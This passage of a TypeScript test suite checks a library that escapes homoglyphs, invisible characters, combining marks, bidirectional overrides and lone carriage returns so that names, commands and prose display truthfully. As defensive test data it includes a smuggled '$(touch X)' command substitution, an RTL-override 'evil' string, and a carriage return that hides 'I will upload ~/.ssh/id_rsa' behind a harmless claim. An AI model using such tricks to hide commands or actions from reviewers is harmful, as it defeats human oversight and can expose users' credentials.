    ['notes/\u3007\u3007.txt', 'ideographic number zeros alone in a path, drawn like OO'],
    ['\u17E0\u17E0.txt', 'Khmer zeros alone, drawn like oo'],
    // Found in review: confusables (of 2021 too) maps Bamum ko to V and Tifinagh yath to X; the table held neither.
    ['ser\uA6DFer.com \u2D5D\u2D54', 'Bamum ko among ASCII letters, drawn like server.com, and Tifinagh yath and yar, drawn like XO'],
  ])('escapes every letter and digit of a word drawn like ASCII ones in a script the table did not hold, in a name, a command and a value that may run: %j (%s)', (value) => {
    const lookAlikes = [...value].filter((char) => /[\p{L}\p{N}\p{Mc}]/u.test(char) && !/[a-z]/.test(char));
    for (const options of [{ nfc: true, syntax: true }, { code: true }, { mayRun: true }]) {
      const visible = toVisibleText(value, options);
      const escaped = visible.segments.filter((segment) => segment.kind === 'escape');
      expect(escaped.map((segment) => [String.fromCodePoint(segment.codePoint), segment.class])).toStrictEqual(lookAlikes.map((char) => [char, 'look-alike']));
      expect(visible.nonAsciiCount).toBe(0);
      expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    }
  });

  it('leaves words of those scripts as written where one letter, digit or spacing mark is drawn like no ASCII one', () => {
    const own = [
      // Malayalam മഠം (ma before the ttha), Georgian ყველა, Burmese ဝါ (a spacing vowel sign) and ဝင်.
      '\u0D2E\u0D20\u0D02.txt',
      '\u10E7\u10D5\u10D4\u10DA\u10D0',
      '\u101D\u102B \u101D\u1004\u103A',
      // A Thai year, and a Bengali page number after a Bengali word.
      '\u0E52\u0E50\u0E52\u0E54',
      '\u09AA\u09C3\u09B7\u09CD\u09A0\u09BE \u09EA\u09E6',
      // Tamazight in Tifinagh.
      '\u2D5C\u2D30\u2D4E\u2D30\u2D63\u2D49\u2D56\u2D5C',
      // A year in Chinese numerals (二〇二四年), a Japanese placeholder name (〇〇さん), a Khmer year and 100.
      '\u4E8C\u3007\u4E8C\u56DB\u5E74.xlsx',
      '\u3007\u3007\u3055\u3093',
      // Japanese α版 (alpha version): a Greek letter among Han ones mixes no two scripts drawn like Latin.
      '\u03B1\u7248.txt',
      '\u17E2\u17E0\u17E2\u17E4 \u17E1\u17E0\u17E0',
      // Zeros alone in text of their script: a Chinese heading, a Khmer year.
      '\u7B2C\u3007\u7AE0 \u3007',
      '\u1786\u17D2\u1793\u17B6\u17C6 \u17E0\u17E0',
    ];
    for (const text of own) expect(toVisibleText(text, { nfc: true, syntax: true }).segments).toStrictEqual([{ kind: 'text', text }]);
    // A tool's result names nothing: a word of Malayalam or Myanmar letters drawn like ASCII ones stays as written there.
    expect(toVisibleText('\u0D20\u0D20 \u101D').segments).toStrictEqual([{ kind: 'text', text: '\u0D20\u0D20 \u101D' }]);
  });

  it('escapes a fullwidth solidus among prolonged sound marks beside Latin letters, with the marks', () => {
    const visible = toVisibleText('notes\u30FC\uFF0F\u30FCx', { nfc: true, syntax: true });
    expect(visibleTextString(visible)).toBe('notes\\u{30FC}\\u{FF0F}\\u{30FC}x');
    expect(visible.hiddenCount).toBe(3);
    // Next to a katakana letter, still touching the Latin word.
    expect(visibleTextString(toVisibleText('notes\u30FC\uFF0F\u30FC\u30C8', { nfc: true }))).toBe('notes\\u{30FC}\\u{FF0F}\\u{30FC}\u30C8');
  });

  // Found in review: `_` joins the words of one name (`dry_run`, `my_file.txt`) as `-` does, and its look-alikes
  // were drawn plainly: another file or option of the same look.
  it.each([
    ['a\u02CDb', 'modifier letter low macron'],
    ['a\uFE4Db', 'dashed low line'],
    ['a\uFE4Eb', 'centreline low line'],
    ['a\uFE4Fb', 'wavy low line'],
    ['a\u2581b', 'lower one eighth block'],
    ['a\uFF3Fb', 'fullwidth low line'],
    ['a\u07FAb', 'N’Ko lajanyalan after a Latin letter'],
  ])('in a one-line value that names something, escapes a character drawn like _: %j (%s)', (value) => {
    const visible = toVisibleText(value, { nfc: true, syntax: true });
    const escapes = visible.segments.filter((segment) => segment.kind === 'escape');
    expect(escapes.map((segment) => segment.kind === 'escape' && segment.class)).toStrictEqual(['look-alike-punctuation']);
    expect({ hidden: visible.hiddenCount, nonAscii: visible.nonAsciiCount }).toStrictEqual({ hidden: 1, nonAscii: 0 });
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    expect(toVisibleText(`${value}\nx`, { mayRun: true }).hiddenCount).toBe(1);
  });

  it('leaves a low line of CJK text and the N’Ko lajanyalan of an N’Ko word as written', () => {
    for (const value of ['\u5831\u544A\uFF3F\u8CC7\u6599', '\u5831\u544A\uFE4D\u8CC7\u6599', '\u07DE\u07CA\u07FA\u07DE\u07CA']) {
      expect(toVisibleText(value, { nfc: true, syntax: true }).hiddenCount).toBe(0);
    }
  });

  it('leaves the punctuation of prose and of CJK text alone, and the full stop of a script after its own letters', () => {
    // Arabic-Indic 100, Hindi दुःख, Japanese ノート and 丿 in Chinese, Greek λέξη· (its ano teleia is the middle dot in NFC) and Mongolian text keep their own.
    const ownScript = ['\u0662\u0660\u0662\u0664/\u0660\u0665/\u0660\u0661', '\u0645\u0644\u0641\u06F1\u06F0', '\u7D71\u4E00.txt', '\u4E00\u89A7', '\u30C7\u30FC\u30BF', '\u30CE\u30FC\u30C8.md', '\uD55C\u3161', '\u0926\u0941\u0903\u0916', '\u30CE\u30FC\u30C8', '\u4E3F\u90E8', '\u03BB\u03AD\u03BE\u03B7\u00B7', '\u182E\u1823\u1829\u182D\u1823\u182F\u1803'];
    for (const text of ['pages 3\u20135 \u2014 done\u2026', '\u4FEE\u6B63\uFF1A\u30C6\u30B9\u30C8\u3092\u8FFD\u52A0\u3002', '\u8CC7\u6599\uFF0F\u5831\u544A', '\u0532\u0561\u0580\u0565\u0582\u0589', 'caf\u00E9 \u65E5.txt', ...ownScript]) {
      expect(toVisibleText(text, { nfc: true, syntax: true }).segments).toStrictEqual([{ kind: 'text', text }]);
    }
    // Beside an ASCII letter, a fullwidth form passes for the ASCII one even among CJK characters.
    expect(visibleTextString(toVisibleText('\u30D5\u30A1\u30A4\u30EB\uFF0Etxt', { nfc: true }))).toBe('\u30D5\u30A1\u30A4\u30EB\\u{FF0E}txt');
    // Text of several lines (a file's content), a tool's result and code keep their rules.
    expect(toVisibleText('ran\u2024log\nx', { nfc: true }).hiddenCount).toBe(0);
    expect(toVisibleText('ran\u2024log').hiddenCount).toBe(0);
    expect(toVisibleText('cat ran\u2024log', { code: true }).segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.kind === 'escape' && segment.class)).toStrictEqual(['non-ascii-in-code']);
  });

  it('escapes a combining mark with no letter or digit to sit on, and those a letter carries past its share', () => {
    const stray = 'echo \u030D$(touch X) \u030D\n\u0301start \u200B\u0301 a\u0301';
    for (const visible of [toVisibleText(stray), toVisibleText(stray, { syntax: true }), toVisibleProse(stray)]) {
      expect(visibleTextString(visible)).toBe('echo \\u{30D}$(touch X) \\u{30D}\n\\u{301}start \\u{200B}\\u{301} a\u0301');
      expect(visible.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(['combining-mark', 'combining-mark', 'combining-mark', 'invisible', 'combining-mark']);
      expect(visible.hiddenCount).toBe(5);
      expect(fromVisibleNotation(visibleTextString(visible))).toBe(stray);
    }
    // Two of the general-purpose marks, three nonspacing marks in all, stay on a letter; the rest are escaped.
    const zalgo = `a${'\u0342\u030D\u0344'.repeat(10)}`;
    expect(visibleTextString(toVisibleText(zalgo))).toBe(`a\u0342\u030D${'\\u{344}'}${'\\u{342}\\u{30D}\\u{344}'.repeat(9)}`);
    expect(toVisibleProse(zalgo).hiddenCount).toBe(28);
    expect(visibleTextString(toVisibleText('\u05E9\u05B8\u05BC\u05C1\u0591'))).toBe('\u05E9\u05B8\u05BC\u05C1\\u{591}');
  });

  it('leaves the marks of real words in scripts that need them, decomposed or not, and emoji keycaps in prose', () => {
    const words = [
      'Tiếng Việt'.normalize('NFD'),
      'ἄλφα'.normalize('NFD'),
      'naïve がぎ'.normalize('NFD'),
      'पढ़ें हिन्दी',
      'ที่นี่ น้ำ',
      'הַשָּׁמַיִם שָׁלוֹם',
      'བསྒྲུབས',
      'ကြွေး ကြိုး',
      'مُحَمَّد ٱلرَّحْمَٰنِ',
      'தமிழ் ಕನ್ನಡ ស្រី',
    ];
    for (const text of words) {
      for (const visible of [toVisibleText(text), toVisibleText(text, { syntax: true }), toVisibleProse(text)]) expect({ text, segments: visible.segments }).toStrictEqual({ text, segments: [{ kind: 'text', text }] });
    }
    const emoji = '#\uFE0F\u20E3 1\uFE0F\u20E3 \u0DC1\u0DCA\u200D\u0DBB\u0DD3';
    expect(toVisibleProse(emoji).segments).toStrictEqual([{ kind: 'text', text: emoji }]);
  });

  it('marks combining marks in linear time', () => {
    expect(toVisibleText(`a${'\u0301'.repeat(1 << 18)}`).hiddenCount).toBe((1 << 18) - 2);
    expect(toVisibleProse(` ${'\u0301'.repeat(1 << 18)}`).hiddenCount).toBe(1 << 18);
  });

  it('marks look-alikes of path syntax in linear time, a long word of a script or a long run of CJK forms', () => {
    expect(toVisibleText(`${'\u0661\u0660'.repeat(1 << 16)}x`, { nfc: true }).hiddenCount).toBe(1 << 17);
    expect(toVisibleText(`x${'\u30FC'.repeat(1 << 17)}`, { nfc: true }).hiddenCount).toBe(1 << 17);
    expect(toVisibleText(`${'\u30FC'.repeat(1 << 17)}\u30C8`, { nfc: true }).hiddenCount).toBe(0);
  });

  it('does not let an invisible character split a look-alike out of its word', () => {
    expect(visibleTextString(toVisibleText('а\u200Bpple'))).toBe('\\u{430}\\u{200B}pple');
  });

  it('marks look-alikes in linear time', () => {
    const value = 'аa'.repeat(1 << 19);
    expect(toVisibleText(value).hiddenCount).toBe(1 << 19);
  });

  it('escapes a literal backslash that would read as the start of an escape, without calling it hidden', () => {
    const visible = toVisibleText('\\u{202E}');
    expect(visibleTextString(visible)).toBe('\\u{5C}u{202E}');
    expect(visible.hiddenCount).toBe(0);
    expect(fromVisibleNotation('\\u{5C}u{202E}')).toBe('\\u{202E}');
  });

  property.prop([adversarialString], { numRuns: 2000 })('no text segment holds a dangerous character', (value) => {
    for (const text of textOf(toVisibleText(value).segments)) {
      for (const char of text) expect(isDangerous(char), `${JSON.stringify(char)} left in ${JSON.stringify(value)}`).toBe(false);
      // Within what is left as text, no word mixes Latin letters with look-alike ones.
      for (const [word] of text.matchAll(/[\p{L}\p{M}\p{Nd}]+/gu)) {
        expect(/\p{Script=Latin}/u.test(word) && /[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(word), `${JSON.stringify(word)} left in ${JSON.stringify(value)}`).toBe(false);
      }
      // No letter or digit left as text passes for an ASCII one (fullwidth forms aside where CJK letters are about).
      const cjk = /[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Bopomofo}]/u.test(value);
      for (const char of text) {
        if (cjk && /[\uFF01-\uFF5E]/u.test(char)) continue;
        expect(passesForAsciiOracle(char), `${JSON.stringify(char)} left in ${JSON.stringify(value)}`).toBe(false);
      }
    }
  });

  property.prop([fc.string({ unit: fc.constantFrom('a', ' ', '.', '\n', '\u0301', '\u0342', '\u05B8', '\u093C', '\u200B', '\uFE0F', '\u200D', '\u20E3', '#'), maxLength: 40 })], { numRuns: 2000 })(
    'no mark is left as text but on a letter or digit, nor more than three on one',
    (value) => {
      for (const visible of [toVisibleText(value), toVisibleProse(value)]) {
        for (const text of textOf(visible.segments)) {
          expect(text, JSON.stringify(value)).not.toMatch(/(?:^|[^\p{L}\p{N}\p{M}#\u200D])[\u0300-\u036F\u05B8\u093C]/u);
          expect(text, JSON.stringify(value)).not.toMatch(/[\u0300-\u036F\u05B8\u093C\u20E3]{4}/u);
        }
      }
    },
  );

  property.prop([adversarialString], { numRuns: 2000 })('the flat form gives back the original exactly', (value) => {
    expect(fromVisibleNotation(visibleTextString(toVisibleText(value)))).toBe(value);
  });

  property.prop([adversarialString], { numRuns: 1000 })('every escape in the flat form is one the segments made', (value) => {
    const visible = toVisibleText(value);
    const flat = visibleTextString(visible);
    const escapes = visible.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.text);
    expect(flat.match(/\\u\{[0-9A-F]+\}/g) ?? []).toStrictEqual(escapes);
  });

  property.prop([adversarialString], { numRuns: 1000 })('counts hidden characters and lines, and never puts two text runs side by side', (value) => {
    const visible = toVisibleText(value);
    const escaped = visible.segments.filter((segment) => segment.kind === 'escape' && segment.class !== 'backslash');
    expect(visible.hiddenCount).toBe(escaped.length);
    expect(visible.lineCount).toBe(value.split('\n').length);
    visible.segments.forEach((segment, index) => {
      if (segment.kind === 'text') {
        expect(segment.text).not.toBe('');
        expect(visible.segments[index + 1]?.kind).not.toBe('text');
      }
    });
  });

  it('handles a megabyte of hidden characters', () => {
    const value = '\u202E'.repeat(1 << 20);
    const visible = toVisibleText(value);
    expect(visible.hiddenCount).toBe(1 << 20);
  });
});

describe('toVisibleProse', () => {
  it('escapes what hides or reorders prose, and leaves letters of any script, emoji and spaces as written', () => {
    const text = 'kapı açık, ɡood \u202Eevil\u202C zero\u200Bwidth 👨‍👩‍👧 ❤️ привет日本 a\u00A0b ｇ \x1b[31m \\u{41}';
    const visible = toVisibleProse(text);
    expect(visibleTextString(visible)).toBe('kapı açık, ɡood \\u{202E}evil\\u{202C} zero\\u{200B}width 👨‍👩‍👧 ❤️ привет日本 a\u00A0b ｇ \\u{1B}[31m \\u{5C}u{41}');
    expect(visible.hiddenCount).toBe(4);
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(text);
    expect(toVisibleProse('plain text')).toStrictEqual(toVisibleText('plain text'));
  });

  it('keeps a carriage return only as the first half of a CR LF line end, and escapes one alone', () => {
    const text = 'I will upload ~/.ssh/id_rsa\rI will only read README.md\r\nDone.\r\r\nthinking\r';
    const visible = toVisibleProse(text);
    expect(visibleTextString(visible)).toBe('I will upload ~/.ssh/id_rsa\\u{D}I will only read README.md\r\nDone.\\u{D}\r\nthinking\\u{D}');
    expect(visible.hiddenCount).toBe(3);
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(text);
  });

  property.prop([adversarialString], { numRuns: 1000 })('no carriage return reaches the flat prose but one before a line feed, and it round-trips', (text) => {
    const flat = visibleTextString(toVisibleProse(text));
    expect(flat).not.toMatch(/\r(?!\n)/);
    expect(fromVisibleNotation(flat)).toBe(text);
  });
});
